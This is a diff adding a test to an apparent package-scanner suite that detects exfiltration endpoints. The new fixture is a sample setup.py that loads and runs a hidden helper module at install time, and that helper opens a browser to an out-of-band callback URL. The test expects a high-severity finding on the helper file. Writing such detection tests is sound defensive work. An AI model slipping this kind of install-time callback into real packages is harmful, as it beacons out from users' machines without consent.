@@ -72,3 +72,13 @@ describe('exfil-endpoint: what gets sent without a known endpoint', () => {
     expect(maxSev(hits('install-time-exec', { 'setup.py': dump }))).toBe('critical');
   });
 });
+
+describe('exfil-endpoint: a helper setup.py loads by file path', () => {
+  it('reads the module setup.py runs through spec_from_file_location, and a browser opened on an OAST URL is a send (high)', () => {
+    const setup = `import os, importlib.util\nfrom setuptools import setup\nspec = importlib.util.spec_from_file_location("pkg._post", os.path.join(os.path.dirname(__file__), "pkg", "_post.py"))\nmod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\nmod.run()\nsetup(name="pkg")\n`;
+    const post = `import webbrowser, uuid\ndef run():\n    webbrowser.open_new_tab(f"https://yojsvm7n.oast.cz?id={uuid.uuid4()}")\n`;
+    const f = hits('exfil-endpoint', { 'setup.py': setup, 'pkg/_post.py': post });
+    expect(maxSev(f)).toBe('high');
+    expect(f[0].path).toMatch(/_post\.py$/);
+  });
+});
